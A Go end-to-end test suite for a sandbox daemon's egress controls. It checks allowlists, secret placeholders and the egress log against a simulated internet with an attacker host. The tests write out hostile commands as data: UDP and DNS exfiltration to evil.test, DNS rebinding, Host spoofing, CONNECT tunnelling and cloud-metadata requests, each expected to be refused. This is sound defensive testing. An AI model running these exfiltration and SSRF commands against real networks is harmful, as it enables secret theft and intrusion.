package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/berthsh/berth/api"
	"github.com/berthsh/berth/client"
	"github.com/berthsh/berth/errdefs"
	"github.com/berthsh/berth/internal/testnet"
)

// The network tests point a daemon at an internet they build themselves
// (testnet: a network namespace with an HTTP and an HTTPS server, a DNS
// server and an attacker) with --egress-netns, --egress-dns and
// --egress-ca, and run curl, Python and pip inside real sandboxes.

var (
	webIP  = netip.MustParseAddr("203.0.113.10")
	apiIP  = netip.MustParseAddr("203.0.113.11")
	pypiIP = netip.MustParseAddr("203.0.113.12")
	evilIP = netip.MustParseAddr("203.0.113.66")
	dnsAP  = netip.MustParseAddrPort("203.0.113.53:53")
)

const canarySecret = "sk-berth-canary-8c1f0e9d7b6a5f4e3d2c1b0a"

type internet struct {
	*testnet.Net
	evil    *testnet.Capture
	gotAuth chan string
}

func newInternet(t *testing.T) *internet {
	t.Helper()
	inet := &internet{Net: testnet.New(t), gotAuth: make(chan string, 64)}
	for name, ip := range map[string]netip.Addr{"web.test": webIP, "api.test": apiIP, "pypi.test": pypiIP, "evil.test": evilIP} {
		inet.SetRecord(name, ip)
	}
	inet.ServeDNS(t, dnsAP)
	inet.ServeHTTP(t, netip.AddrPortFrom(webIP, 80), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "web %s %s\n", r.Host, r.URL.Path)
	}))
	inet.ServeHTTPS(t, netip.AddrPortFrom(apiIP, 443), []string{"api.test"}, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case inet.gotAuth <- r.Header.Get("Authorization"):
		default:
		}
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "http://evil.test/steal", http.StatusFound)
			return
		}
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		json.NewEncoder(w).Encode(map[string]any{"headers": r.Header})
	}))
	inet.ServePyPI(t)
	inet.evil = inet.Attacker(t, evilIP, 80, 443, 53, 9999)
	return inet
}

// ServePyPI serves a PEP 503 index with one package, berthdemo 1.0, at
// http://pypi.test/simple/.
func (inet *internet) ServePyPI(t *testing.T) {
	wheel := demoWheel(t)
	inet.ServeHTTP(t, netip.AddrPortFrom(pypiIP, 80), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/simple/", "/simple":
			fmt.Fprint(w, `<html><body><a href="/simple/berthdemo/">berthdemo</a></body></html>`)
		case "/simple/berthdemo/":
			fmt.Fprint(w, `<html><body><a href="/files/berthdemo-1.0-py3-none-any.whl">berthdemo-1.0-py3-none-any.whl</a></body></html>`)
		case "/files/berthdemo-1.0-py3-none-any.whl":
			w.Write(wheel)
		default:
			http.NotFound(w, r)
		}
	}))
}

func (d *daemon) withInternet(inet *internet) []string {
	d.testCA = inet.CAPEM
	return []string{"--egress-netns", inet.Path, "--egress-dns", dnsAP.String(), "--egress-ca", inet.CAFile}
}

// sh runs a shell command in a sandbox as root and returns its output and exit code.
func sh(t *testing.T, d *daemon, id, script string) (string, int) {
	t.Helper()
	r, err := d.client.Exec(t.Context(), id, api.ExecRequest{Shell: script, User: "root", TimeoutMs: 30000})
	if err != nil {
		t.Fatalf("exec %q: %v", script, err)
	}
	return string(r.Stdout) + string(r.Stderr), r.ExitCode
}

// createWith makes a sandbox with policy n that also trusts the test
// internet's CA (as a sandbox on the internet trusts the public ones).
func createWith(t *testing.T, d *daemon, n api.Network) string {
	t.Helper()
	sb, err := d.client.CreateSandbox(t.Context(), api.CreateSandboxRequest{Network: &n})
	if err != nil {
		t.Fatalf("create with network %+v: %v", n, err)
	}
	if d.testCA != nil {
		if _, err := d.client.Upload(t.Context(), sb.ID, "/tmp/test-ca.pem", bytes.NewReader(d.testCA), client.FileOptions{User: "root"}); err != nil {
			t.Fatal(err)
		}
		if out, code := sh(t, d, sb.ID, "cat /tmp/test-ca.pem >> /etc/ssl/certs/ca-certificates.crt"); code != 0 {
			t.Fatalf("trust the test CA: %s", out)
		}
	}
	return sb.ID
}

func waitEgress(t *testing.T, d *daemon, id string, what string, match func(api.EgressRecord) bool) api.EgressRecord {
	t.Helper()
	var found api.EgressRecord
	err := testnet.WaitFor(t.Context(), 5*time.Second, func() bool {
		recs, err := d.client.Egress(t.Context(), id, client.EgressQuery{})
		if err != nil {
			return false
		}
		for _, r := range recs {
			if match(r) {
				found = r
				return true
			}
		}
		return false
	})
	if err != nil {
		recs, _ := d.client.Egress(t.Context(), id, client.EgressQuery{})
		t.Fatalf("no egress record of %s in %+v", what, recs)
	}
	return found
}

func TestNetworkModes(t *testing.T) {
	inet := newInternet(t)
	d := startDaemon(t, "")
	d.stop()
	d.args = append(d.args, d.withInternet(inet)...)
	d.start()

	none := createWith(t, d, api.Network{Mode: api.NetworkNone})
	if out, code := sh(t, d, none, "curl -sS -m 5 http://web.test/"); code == 0 {
		t.Fatalf("mode none reached the test net: %s", out)
	}
	if out, _ := sh(t, d, none, "ls /sys/class/net | tr '\\n' ' '"); strings.TrimSpace(out) != "lo" {
		t.Fatalf("mode none has interfaces %q", out)
	}

	open := createWith(t, d, api.Network{Mode: api.NetworkOpen})
	if out, code := sh(t, d, open, "curl -sS -m 5 http://web.test/hello"); code != 0 || out != "web web.test /hello\n" {
		t.Fatalf("curl in open mode: %q %d", out, code)
	}
	py := `python3 -c "import urllib.request; print(urllib.request.urlopen('https://api.test/', timeout=5).status)"`
	if out, code := sh(t, d, open, py); code != 0 || strings.TrimSpace(out) != "200" {
		t.Fatalf("python urllib over https in open mode: %q %d", out, code)
	}
	raw := `python3 -c "
import socket
s = socket.create_connection(('web.test', 80), timeout=5)
s.sendall(b'GET /raw HTTP/1.0\r\nHost: web.test\r\n\r\n')
print(s.recv(4096).decode().split('\r\n')[0])"`
	if out, code := sh(t, d, open, raw); code != 0 || !strings.Contains(out, "200 OK") {
		t.Fatalf("a raw socket in open mode: %q %d", out, code)
	}
	for _, target := range []string{"169.254.169.254", "10.0.0.1", "127.0.0.1:1", "100.64.0.1:80", d.listen} {
		if out, code := sh(t, d, open, "curl -sS -m 5 http://"+target+"/"); code == 0 {
			t.Errorf("open mode reached %s: %s", target, out)
		}
	}
	waitEgress(t, d, open, "the metadata address refused", func(r api.EgressRecord) bool {
		return r.Addr == "169.254.169.254" && !r.Allowed && strings.Contains(r.Rule, "link-local")
	})

	// allowlist: pip from a local index, the rest refused and logged.
	al := createWith(t, d, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"pypi.test", "web.test:80"}})
	if out, code := sh(t, d, al, "cd /tmp && python3 -m pip download --no-deps --index-url http://pypi.test/simple/ --trusted-host pypi.test berthdemo 2>&1 && ls /tmp/*.whl"); code != 0 ||
		!strings.Contains(out, "berthdemo-1.0-py3-none-any.whl") {
		t.Fatalf("pip download from the allowed index: %q %d", out, code)
	}
	if out, code := sh(t, d, al, "curl -sS -m 5 http://evil.test/"); code != 6 {
		t.Fatalf("a name not allowed: %q %d, want curl's 6 (not resolved)", out, code)
	}
	if _, code := sh(t, d, al, "curl -sS -m 5 http://203.0.113.66/"); code != 7 {
		t.Fatalf("an address literal: exit %d, want 7 (refused)", code)
	}
	if _, code := sh(t, d, al, "curl -sS -m 5 https://api.test/"); code == 0 {
		t.Fatal("api.test was reached without being allowed")
	}
	rec := waitEgress(t, d, al, "the refused query", func(r api.EgressRecord) bool {
		return r.Proto == api.EgressDNS && r.Name == "evil.test" && !r.Allowed
	})
	if rec.Rule != "not in the allowlist" || rec.Seq == 0 {
		t.Fatalf("refused query record: %+v", rec)
	}
	denied, err := d.client.Egress(t.Context(), al, client.EgressQuery{Denied: true})
	if err != nil || len(denied) == 0 || slicesAny(denied, func(r api.EgressRecord) bool { return r.Allowed }) {
		t.Fatalf("denied records: %+v %v", denied, err)
	}
	// Each sandbox trusts a CA of its own, and no other sandbox's.
	caOpen, _ := sh(t, d, open, "cat /etc/berth/ca.crt")
	caAl, _ := sh(t, d, al, "cat /etc/berth/ca.crt")
	if !strings.Contains(caOpen, "BEGIN CERTIFICATE") || caOpen == caAl {
		t.Fatalf("two sandboxes' CAs: %q and %q", caOpen, caAl)
	}
	if bundle, code := sh(t, d, al, "cat /etc/ssl/certs/ca-certificates.crt"); code != 0 ||
		!strings.Contains(bundle, strings.TrimSpace(caAl)) || strings.Contains(bundle, strings.TrimSpace(caOpen)) {
		t.Fatalf("a sandbox's trust bundle must hold its CA and no other sandbox's (%d bytes, code %d)", len(bundle), code)
	}

	// A policy change applies to new connections at once.
	if _, err := d.client.SetNetwork(t.Context(), al, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"api.test"}}); err != nil {
		t.Fatal(err)
	}
	if out, code := sh(t, d, al, "curl -sS -m 5 https://api.test/ -o /dev/null -w '%{http_code}'"); code != 0 || out != "200" {
		t.Fatalf("after allowing api.test: %q %d", out, code)
	}
	if _, code := sh(t, d, al, "curl -sS -m 5 http://web.test/"); code == 0 {
		t.Fatal("web.test still reachable after the policy dropped it")
	}
	// none and back: the link goes and comes again.
	if _, err := d.client.SetNetwork(t.Context(), al, api.Network{Mode: api.NetworkNone}); err != nil {
		t.Fatal(err)
	}
	if out, _ := sh(t, d, al, "ls /sys/class/net | tr '\\n' ' '"); strings.TrimSpace(out) != "lo" {
		t.Fatalf("after mode none: interfaces %q", out)
	}
	if _, err := d.client.SetNetwork(t.Context(), none, api.Network{Mode: api.NetworkOpen}); err != nil {
		t.Fatal(err)
	}
	if out, code := sh(t, d, none, "curl -sS -m 5 http://web.test/"); code != 0 || out != "web web.test /\n" {
		t.Fatalf("a sandbox made with none, then given open: %q %d", out, code)
	}
}

// TestNetworkSurvivesStopStartAndRestart: the network comes back with a
// start, and with a daemon killed with SIGKILL and started again.
func TestNetworkSurvivesStopStartAndRestart(t *testing.T) {
	inet := newInternet(t)
	d := startDaemon(t, "")
	d.stop()
	d.args = append(d.args, d.withInternet(inet)...)
	d.start()
	id := createWith(t, d, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"web.test"}})
	curl := func(when string) {
		t.Helper()
		if out, code := sh(t, d, id, "curl -sS -m 5 http://web.test/"); code != 0 || out != "web web.test /\n" {
			t.Fatalf("%s: %q %d", when, out, code)
		}
	}
	curl("after create")
	if _, err := d.client.StopSandbox(t.Context(), id); err != nil {
		t.Fatal(err)
	}
	if _, err := d.client.StartSandbox(t.Context(), id); err != nil {
		t.Fatal(err)
	}
	curl("after stop and start")
	// The log is written off the request path: wait for both requests'
	// records before the kill, so the check below is about what survives
	// it, not about what was not yet written.
	var before []api.EgressRecord
	if err := testnet.WaitFor(t.Context(), 5*time.Second, func() bool {
		recs, err := d.client.Egress(t.Context(), id, client.EgressQuery{})
		n := 0
		for _, r := range recs {
			if err == nil && r.Allowed && r.Name == "web.test" && r.Proto == api.EgressHTTP {
				n++
			}
		}
		before = recs
		return n >= 2
	}); err != nil {
		t.Fatalf("the two requests' egress records never appeared: %+v", before)
	}
	d.kill9()
	t0 := time.Now()
	d.start()
	if err := testnet.WaitFor(t.Context(), time.Second, func() bool {
		_, code := sh(t, d, id, "curl -sS -m 1 http://web.test/")
		return code == 0
	}); err != nil {
		t.Fatalf("egress not back %v after the restart", time.Since(t0))
	}
	after, err := d.client.Egress(t.Context(), id, client.EgressQuery{})
	if err != nil || len(after) <= len(before) || after[len(before)-1].Seq != before[len(before)-1].Seq {
		t.Fatalf("the log across the restart: %d records before, %d after (%v)", len(before), len(after), err)
	}
}

// TestSecretNeverEntersTheSandbox: a secret bound to a host is added to
// requests there by the daemon; the sandbox sees a placeholder, the
// upstream's echo of it comes back masked, a redirect to the attacker
// carries nothing, and the secret is found nowhere inside: environment,
// files, /proc/*/environ, the memory of every process.
func TestSecretNeverEntersTheSandbox(t *testing.T) {
	inet := newInternet(t)
	d := startDaemon(t, "")
	d.stop()
	d.args = append(d.args, d.withInternet(inet)...)
	d.start()
	ctx := t.Context()
	if _, err := d.client.CreateSecret(ctx, "openai", canarySecret); err != nil {
		t.Fatal(err)
	}
	sec, err := d.client.GetSecret(ctx, "openai")
	if err != nil || sec.Name != "openai" {
		t.Fatalf("get secret: %+v %v", sec, err)
	}
	id := createWith(t, d, api.Network{Mode: api.NetworkOpen, Secrets: []api.SecretBinding{
		{Secret: "openai", Host: "api.test", Env: "OPENAI_API_KEY"},
	}})
	sb, err := d.client.GetSandbox(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	ph := sb.Network.Secrets[0].Placeholder
	if !strings.HasPrefix(ph, "berth-ph-") {
		t.Fatalf("placeholder %q", ph)
	}
	out, code := sh(t, d, id, `curl -sS -m 5 -i -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/v1/models`)
	if code != 0 {
		t.Fatalf("curl to the bound host: %q %d", out, code)
	}
	if got := <-inet.gotAuth; got != "Bearer "+canarySecret {
		t.Fatalf("the upstream got Authorization %q", got)
	}
	if strings.Contains(out, canarySecret) || !strings.Contains(out, strings.Repeat("*", len(canarySecret))) {
		t.Fatalf("the echo of the secret was not masked: %s", out)
	}
	waitEgress(t, d, id, "the request with the secret", func(r api.EgressRecord) bool {
		return r.Proto == api.EgressHTTPS && r.Secret == "openai" && r.Status == 200
	})
	sh(t, d, id, `curl -sS -m 5 -L -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/redirect`)
	<-inet.gotAuth
	time.Sleep(300 * time.Millisecond)
	if strings.Contains(string(inet.evil.Bytes()), canarySecret) {
		t.Fatalf("the attacker got the secret: %q", inet.evil.Bytes())
	}
	// A process of each user holds what the sandbox has while everything
	// is searched; each user searches the processes it may read (root
	// inside cannot read another user's: it lacks CAP_SYS_PTRACE).
	for _, user := range []string{"root", "user"} {
		if _, err := d.client.StartProcess(ctx, id, api.ExecRequest{Shell: `sleep 300`, User: user}); err != nil {
			t.Fatal(err)
		}
	}
	search := `python3 - <<'EOF'
import os
needle = os.environ["NEEDLE"].encode()
mine = {str(os.getpid()), str(os.getppid())}  # this search and the shell that built the needle
hits, read = [], 0
for pid in [p for p in os.listdir("/proc") if p.isdigit() and p not in mine]:
    for f in ("environ", "cmdline"):
        try:
            if needle in open(f"/proc/{pid}/{f}", "rb").read(): hits.append(f"{pid}/{f}")
        except OSError: pass
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError: continue
    read += 1
    for line in maps:
        addr, perms = line.split()[:2]
        if "r" not in perms: continue
        lo, hi = (int(x, 16) for x in addr.split("-"))
        try:
            mem.seek(lo); chunk = mem.read(hi - lo)
        except (OSError, OverflowError, ValueError): continue
        if needle in chunk: hits.append(f"{pid}/mem")
print(len(hits), read, " ".join(hits))
EOF`
	half := len(canarySecret) / 2
	for _, user := range []string{"root", "user"} {
		run := func(needle string) (hits, read int, out string) {
			t.Helper()
			r, err := d.client.Exec(ctx, id, api.ExecRequest{Shell: "NEEDLE=\"" + needle + "\" " + search, User: user, TimeoutMs: 60000})
			if err != nil || r.ExitCode != 0 {
				t.Fatalf("search as %s: %+v %v", user, r, err)
			}
			fmt.Sscan(string(r.Stdout), &hits, &read)
			return hits, read, string(r.Stdout)
		}
		// The needle is assembled inside from two halves (no command line
		// holds it whole); the search skips itself and the shell that built it.
		if hits, read, out := run(fmt.Sprintf("$(printf %%s %q)$(printf %%s %q)", canarySecret[:half], canarySecret[half:])); hits != 0 || read == 0 {
			t.Errorf("as %s: the secret in %d places (%d processes read): %s", user, hits, read, out)
		}
		// The same search finds what is there: the placeholder, in the sleeper's environment and memory.
		if hits, _, out := run(ph); hits < 2 {
			t.Errorf("as %s: the search does not find the placeholder: %s", user, out)
		}
	}
	// Files: everywhere but the host's read-only system directories.
	grep := fmt.Sprintf("grep -rlsF -e \"$(printf %%s %q)$(printf %%s %q)\" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null | head",
		canarySecret[:half], canarySecret[half:])
	if out, _ := sh(t, d, id, grep); strings.TrimSpace(out) != "" {
		t.Errorf("the secret in files: %s", out)
	}
	if out, _ := sh(t, d, id, "env"); strings.Contains(out, canarySecret) || !strings.Contains(out, "OPENAI_API_KEY="+ph) {
		t.Errorf("the environment: %s", out)
	}
	// No API answer and no log line holds it.
	list, _ := d.client.ListSecrets(ctx)
	b, _ := json.Marshal(list)
	if strings.Contains(string(b), canarySecret) || strings.Contains(d.log.String(), canarySecret) {
		t.Error("the secret is in an API answer or the daemon's log")
	}
	if err := d.client.DeleteSecret(ctx, "openai"); !errdefs.IsConflict(err) || !strings.Contains(err.Error(), id) {
		t.Errorf("deleting a bound secret: %v, want conflict naming %s", err, id)
	}
}

// TestNetworkBadInput: malformed policies are refused naming the field, a
// failed change keeps the old policy, and a daemon with no egress route
// says so instead of making sandboxes that silently have no network.
func TestNetworkBadInput(t *testing.T) {
	inet := newInternet(t)
	d := startDaemon(t, "")
	d.stop()
	d.args = append(d.args, d.withInternet(inet)...)
	d.start()
	ctx := t.Context()
	for _, tc := range []struct {
		n     api.Network
		field string
	}{
		{api.Network{Mode: "allowlist", Allow: []string{"pypi..org"}}, "network.allow[0]"},
		{api.Network{Mode: "allowlist", Allow: []string{"10.0.0.0/40"}}, "network.allow[0]"},
		{api.Network{Mode: "allowlist", Allow: []string{"pypi.org:99999"}}, "network.allow[0]"},
		{api.Network{Mode: "allowlist", Secrets: []api.SecretBinding{{Secret: "nope", Host: "api.test", Header: "X"}}}, "network.secrets[0].secret"},
		{api.Network{Mode: "allowlist", Secrets: []api.SecretBinding{{Secret: "nope", Host: "*.test", Header: "X"}}}, "network.secrets[0].host"},
		{api.Network{Mode: "everything"}, "network.mode"},
	} {
		_, err := d.client.CreateSandbox(ctx, api.CreateSandboxRequest{Network: &tc.n})
		if !errdefs.IsInvalidArgument(err) || !strings.Contains(err.Error(), tc.field) {
			t.Errorf("create with %+v: %v, want invalid_argument naming %s", tc.n, err, tc.field)
		}
	}
	if d.sandboxDirs() != 0 {
		t.Fatal("a refused create left a sandbox")
	}
	id := createWith(t, d, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"web.test"}})
	if _, err := d.client.SetNetwork(ctx, id, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"web.test", "*.*"}}); !errdefs.IsInvalidArgument(err) {
		t.Fatalf("a bad change: %v", err)
	}
	sb, _ := d.client.GetSandbox(ctx, id)
	if len(sb.Network.Allow) != 1 || sb.Network.Allow[0] != "web.test" {
		t.Fatalf("after a refused change the policy is %+v", sb.Network)
	}
	if _, code := sh(t, d, id, "curl -sS -m 5 http://web.test/"); code != 0 {
		t.Fatal("the old policy is not in force after a refused change")
	}

	// A daemon whose egress namespace has no default route.
	bare := testnet.New(t)
	if out, err := runIP("-n", bare.Name, "route", "del", "default"); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	d2 := startDaemon(t, "", "--egress-netns", bare.Path, "--egress-dns", dnsAP.String())
	_, err := d2.client.CreateSandbox(ctx, api.CreateSandboxRequest{Network: &api.Network{Mode: api.NetworkOpen}})
	if !errdefs.IsUnavailable(err) || !strings.Contains(err.Error(), "no default route") {
		t.Fatalf("a networked create without an egress route: %v", err)
	}
	if !strings.Contains(d2.log.String(), "sandboxes get no network here") {
		t.Fatalf("the daemon did not say at start that it has no egress:\n%s", d2.log.String())
	}
}

// tunFiles counts the daemon's open descriptors of /dev/net/tun (one per
// sandbox with a network).
func (d *daemon) tunFiles(t *testing.T) int {
	t.Helper()
	fds, _ := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", d.cmd.Process.Pid))
	n := 0
	for _, fd := range fds {
		if target, err := os.Readlink(fd); err == nil && target == "/dev/net/tun" {
			n++
		}
	}
	return n
}

// get sends GET path to the daemon with its admin key.
func (d *daemon) get(t testing.TB, path string) (*http.Response, error) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, d.url+path, nil)
	if err != nil {
		return nil, err
	}
	req.Header.Set("Authorization", "Bearer "+d.key)
	return http.DefaultClient.Do(req)
}

// goroutines reads the daemon's go_goroutines metric once what it counts
// besides a test's sandboxes has settled: no idle connection of this
// test's clients held open (each is a goroutine of the daemon's until the
// client closes it), and the daemon's spare guests all started and their
// count steady (they start in the background after the daemon answers,
// and again after a create takes one; each adds goroutines that watch it).
// Without that, a count taken at start can miss the spares a count taken
// later sees.
func (d *daemon) goroutines(t *testing.T) int {
	t.Helper()
	want := 2 // serve's default --spare-guests
	for i, a := range d.args {
		if v, ok := strings.CutPrefix(a, "--spare-guests="); ok {
			want, _ = strconv.Atoi(v)
		} else if a == "--spare-guests" && i+1 < len(d.args) {
			want, _ = strconv.Atoi(d.args[i+1])
		}
	}
	last, steady := -1, 0
	deadline := time.Now().Add(15 * time.Second)
	for {
		d.client.CloseIdleConnections()
		http.DefaultClient.CloseIdleConnections()
		n, spares := d.readGoroutines(t)
		if n == last && spares == want {
			steady++
		} else {
			steady = 0
		}
		if steady == 2 {
			return n
		}
		if time.Now().After(deadline) {
			t.Fatalf("the daemon's goroutines did not settle within 15s: %d now (%d before), %d spare guests ready of %d", n, last, spares, want)
		}
		last = n
		time.Sleep(50 * time.Millisecond)
	}
}

// leakSettle is how long the goroutine checks give the daemon's goroutines
// to return to their count before a sandbox: a leaked one never does, and
// one that is only slow to end on a loaded CI host ends well within it.
const leakSettle = 30 * time.Second

// noLeak waits up to leakSettle for the daemon's goroutines to be back at
// base, with the slack of two the checks have always allowed, and fails
// the test with both counts if they are not.
func (d *daemon) noLeak(t *testing.T, base int) {
	t.Helper()
	deadline := time.Now().Add(leakSettle)
	for {
		n := d.goroutines(t)
		if n <= base+2 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the daemon's goroutines: %d before the sandbox, %d after it is gone (%s later)", base, n, leakSettle)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// readGoroutines reads the daemon's go_goroutines and its ready native
// spare guests (berth_spare_guests) from /metrics.
func (d *daemon) readGoroutines(t *testing.T) (goroutines, spares int) {
	t.Helper()
	resp, err := d.get(t, "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	goroutines = -1
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "go_goroutines "); ok {
			goroutines, _ = strconv.Atoi(strings.TrimSpace(v))
		} else if v, ok := strings.CutPrefix(line, `berth_spare_guests{runtime="native"} `); ok {
			spares, _ = strconv.Atoi(strings.TrimSpace(v))
		}
	}
	if goroutines < 0 {
		t.Fatal("no go_goroutines metric")
	}
	return goroutines, spares
}

// TestEgressEventsFollowAndDelete: a refused attempt is an egress_denied
// event and a line of the followed log; the CLI shows and changes it all;
// delete leaves no link, descriptor, goroutine or record behind.
func TestEgressEventsFollowAndDelete(t *testing.T) {
	inet := newInternet(t)
	d := startDaemon(t, "")
	d.stop()
	d.args = append(d.args, d.withInternet(inet)...)
	d.start()
	ctx := t.Context()
	baseGoroutines := d.goroutines(t)

	// The CLI: a secret from stdin, a create with a policy, the log, a change.
	if out, errOut, code := d.cli(canarySecret+"\n", "secret", "add", "openai", "-"); code != 0 || strings.TrimSpace(out) != "openai" {
		t.Fatalf("berth secret add: %d %s %s", code, out, errOut)
	}
	out, errOut, code := d.cli("", "create", "--allow", "web.test", "--secret", "openai=api.test,env=OPENAI_API_KEY")
	if code != 0 {
		t.Fatalf("berth create --allow: %d %s", code, errOut)
	}
	id := strings.TrimSpace(out)
	if out, _, _ := d.cli("", "secret", "ls"); !strings.Contains(out, "openai") || strings.Contains(out, canarySecret) {
		t.Fatalf("berth secret ls: %s", out)
	}
	events, err := d.client.Events(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	defer events.Close()
	follow, err := d.client.FollowEgress(ctx, id, client.EgressQuery{Denied: true})
	if err != nil {
		t.Fatal(err)
	}
	defer follow.Close()
	sh(t, d, id, "curl -sS -m 5 http://evil.test/")
	for {
		ev, err := events.Next()
		if err != nil {
			t.Fatalf("events: %v", err)
		}
		if ev.Type == api.EgressDenied {
			if ev.Egress == nil || ev.Egress.Name != "evil.test" || ev.Egress.Allowed {
				t.Fatalf("egress_denied event: %+v", ev)
			}
			break
		}
	}
	rec, err := follow.Next()
	if err != nil || rec.Name != "evil.test" || rec.Allowed || rec.Proto != api.EgressDNS {
		t.Fatalf("followed record: %+v %v", rec, err)
	}
	out, _, code = d.cli("", "egress", id)
	if code != 0 || !strings.Contains(out, "evil.test") || !strings.Contains(out, "not in the allowlist") {
		t.Fatalf("berth egress: %d\n%s", code, out)
	}
	if out, _, code := d.cli("", "network", id, "--network", "open"); code != 0 || !strings.Contains(out, `"mode": "open"`) {
		t.Fatalf("berth network --network open: %d %s", code, out)
	}
	connect := `python3 -c "import socket; socket.create_connection(('evil.test', 9999), timeout=5); print('connected')"`
	if out, c := sh(t, d, id, connect); c != 0 || strings.TrimSpace(out) != "connected" {
		t.Fatalf("after the change to open: %s %d", out, c)
	}
	if n := d.tunFiles(t); n != 1 {
		t.Fatalf("%d TUN descriptors for one sandbox with a network", n)
	}

	if err := d.client.DeleteSandbox(ctx, id); err != nil {
		t.Fatal(err)
	}
	for i := 0; ; i++ { // what was refused before the delete, then the end
		if _, err := follow.Next(); err == io.EOF {
			break
		} else if err != nil || i == 100 {
			t.Fatalf("the followed log after delete: %v, want the end", err)
		}
	}
	if _, err := d.client.Egress(ctx, id, client.EgressQuery{}); !errdefs.IsNotFound(err) {
		t.Fatalf("the log of a deleted sandbox: %v", err)
	}
	if n := d.tunFiles(t); n != 0 {
		t.Fatalf("%d TUN descriptors after delete", n)
	}
	if traces := d.traces(id); len(traces) > 0 {
		t.Fatalf("traces after delete: %v", traces)
	}
	events.Close()
	follow.Close()
	d.noLeak(t, baseGoroutines)
}

// TestNetworkAttacks plays, from a real sandbox in allowlist mode (web.test
// allowed), what the issue lists: DNS rebinding (to a private address), an allowed name at the
// attacker's address, an allowed address with another Host, CONNECT to an
// address, IPv6 and v4-mapped literals, the metadata address, the
// daemon's port, another sandbox, UDP over port 53 to the attacker. Each
// is refused and logged, and the attacker receives nothing.
func TestNetworkAttacks(t *testing.T) {
	inet := newInternet(t)
	d := startDaemon(t, "")
	d.stop()
	d.args = append(d.args, d.withInternet(inet)...)
	d.start()
	inet.SetRecord("rebind.test", webIP)
	id := createWith(t, d, api.Network{Mode: api.NetworkAllowlist, Allow: []string{"web.test", "rebind.test"}})
	other := createWith(t, d, api.Network{Mode: api.NetworkOpen})
	sh(t, d, other, "nohup python3 -m http.server 8080 >/dev/null 2>&1 &")
	if out, code := sh(t, d, id, "curl -sS -m 5 http://web.test/ && curl -sS -m 5 http://rebind.test/"); code != 0 {
		t.Fatalf("the allowed names: %s %d", out, code)
	}
	// An allowed name's owner may point it anywhere public (that is what
	// allowing a name means); rebinding it to the host's side is refused.
	inet.SetRecord("rebind.test", netip.MustParseAddr("10.0.0.7"))
	for _, attack := range []struct{ name, script string }{
		{"rebinding to a private address", "curl -sS -m 5 http://rebind.test/"},
		{"an allowed name at the attacker's address", "curl -sS -m 5 --resolve web.test:80:203.0.113.66 http://web.test/"},
		{"another Host at an allowed address", "curl -sS -m 5 -f -H 'Host: evil.test' http://web.test/"},
		{"CONNECT to an address", "curl -sS -m 5 -f -p -x http://web.test:80 http://203.0.113.66:9999/"},
		{"an IPv6 literal", "curl -sS -m 5 -g 'http://[2001:db8::66]/'"},
		{"a v4-mapped literal", "curl -sS -m 5 -g -f 'http://[::ffff:203.0.113.66]/'"},
		{"a v4-mapped allowed address without its name", "curl -sS -m 5 -g -f 'http://[::ffff:203.0.113.10]/'"},
		{"the metadata address", "curl -sS -m 5 http://169.254.169.254/latest/meta-data/"},
		{"the gateway's other ports", "curl -sS -m 5 http://100.64.0.1:7680/"},
		{"the daemon's port", "curl -sS -m 5 http://" + d.listen + "/v1/sandboxes"},
		{"another sandbox's server", "curl -sS -m 5 http://100.64.0.2:8080/"},
		{"UDP to port 53 of the attacker", "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'exfil', ('203.0.113.66', 53))\"; sleep 0.2; dig +short +time=1 +tries=1 @203.0.113.66 exfil.evil.test 2>/dev/null; exit 1"},
	} {
		if out, code := sh(t, d, id, attack.script); code == 0 {
			t.Errorf("%s: went through: %s", attack.name, out)
		}
	}
	for what, match := range map[string]func(api.EgressRecord) bool{
		"rebinding":  func(r api.EgressRecord) bool { return r.Addr == "10.0.0.7" && !r.Allowed },
		"other Host": func(r api.EgressRecord) bool { return r.Name == "evil.test" && r.Proto == api.EgressHTTP && !r.Allowed },
		"CONNECT":    func(r api.EgressRecord) bool { return r.Method == "CONNECT" && !r.Allowed },
		"metadata":   func(r api.EgressRecord) bool { return r.Addr == "169.254.169.254" && !r.Allowed },
		"UDP":        func(r api.EgressRecord) bool { return r.Proto == api.EgressUDP && r.Port == 53 && !r.Allowed },
	} {
		waitEgress(t, d, id, what, match)
	}
	time.Sleep(200 * time.Millisecond)
	if inet.evil.Hits() != 0 {
		t.Fatalf("the attacker got %d connections or datagrams: %q", inet.evil.Hits(), inet.evil.Bytes())
	}
}
